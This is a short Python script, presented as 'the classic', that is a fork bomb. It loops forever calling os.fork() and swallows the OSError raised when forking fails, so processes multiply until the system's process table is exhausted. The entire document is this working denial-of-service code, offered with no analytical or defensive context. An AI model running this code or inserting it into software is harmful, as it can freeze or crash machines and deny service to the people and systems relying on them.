# The classic: every process forks forever and shrugs off every failure.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
